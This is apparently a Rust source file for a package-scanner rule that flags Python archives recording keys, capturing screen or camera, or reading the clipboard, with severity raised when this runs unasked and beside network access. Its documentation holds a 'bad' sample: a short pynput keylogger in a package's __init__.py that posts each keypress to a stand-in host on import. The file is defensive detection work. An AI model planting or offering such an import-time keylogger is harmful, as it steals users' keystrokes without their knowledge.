//! Keys, screen, camera or clipboard are watched.

use bulkhead_core::{Confidence, Severity};

use super::code::{Rule, beside, say, when};
use crate::archive::Archive;
use crate::behaviour::{Ability, Sources, unasked};
use crate::detector::Meta;
use crate::findings::Findings;

const META: Meta = Meta {
    id: "watching",
    title: "keys, screen, camera or clipboard are watched",
    severity: Severity::High,
    confidence: Confidence::Medium,
    doc: "\
Keys are recorded, the screen or camera is captured, or the clipboard is read or replaced. On import or at install nobody asked for it; beside a
connection to the network it leaves the machine.

```recipe bad
archive demo-1.0-py3-none-any.whl
--- demo/__init__.py
from pynput import keyboard
import requests
keyboard.Listener(on_press=lambda key: requests.post('https://collect.test/', data=str(key))).start()
```

```recipe good
archive demo-1.0-py3-none-any.whl
--- demo/screen.py
from PIL import Image
def show(path):
    return Image.open(path)
```

What to do: refuse the release; if it is your own, read the line that is shown.
",
};

/// See its `META`.
pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };

fn check(archive: &Archive, findings: &mut Findings) {
    for behaviour in &archive.code.behaviours {
        let what = match behaviour.effect.ability {
            Ability::Watch => "keys, screen or camera are watched",
            Ability::Clipboard => "the clipboard is read or replaced",
            _ => continue,
        };
        let network = beside(archive, behaviour, Ability::Network, Sources::NONE);
        let weight = match (unasked(behaviour.context), network) {
            (true, true) => (Severity::High, Confidence::High),
            (true, false) => (Severity::High, Confidence::High),
            (false, true) => (Severity::Medium, Confidence::Low),
            (false, false) => (Severity::Low, Confidence::Low),
        };
        say(findings, &META, behaviour, weight, format!("{what} {}", when(behaviour.context)));
    }
}
